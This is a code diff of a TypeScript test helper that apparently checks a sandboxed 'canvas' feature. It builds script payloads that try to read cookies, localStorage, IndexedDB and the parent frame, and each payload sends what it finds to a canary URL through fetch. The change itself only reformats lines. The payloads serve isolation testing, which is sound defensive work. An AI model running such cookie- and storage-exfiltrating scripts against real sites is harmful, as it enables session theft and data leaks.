@@ -50,9 +50,13 @@ export function canvasAttempts(canary: string): Record<string, string> {
   const script = (code: string) => `<p>canvas</p><script>try { ${code} } catch {}</script>`;
   const report = (what: string) => `fetch("${canary}/leak?" + encodeURIComponent(${what}))`;
   return {
-    "read cookies": script(`if (document.cookie !== undefined) ${report("document.cookie")}`),
+    "read cookies": script(
+      `if (document.cookie !== undefined) ${report("document.cookie")}`,
+    ),
     "read the local storage": script(report("JSON.stringify(localStorage)")),
-    "open a database": script(`indexedDB.open("a").onsuccess = () => ${report("'database'")}`),
+    "open a database": script(
+      `indexedDB.open("a").onsuccess = () => ${report("'database'")}`,
+    ),
     "read its parent": script(report("parent.document.title + location.href")),
     "message its parent": script(`parent.postMessage("${canary}", "*"); alert(1)`),
     fetch: script(`fetch("${canary}/fetch", { mode: "no-cors" })`),
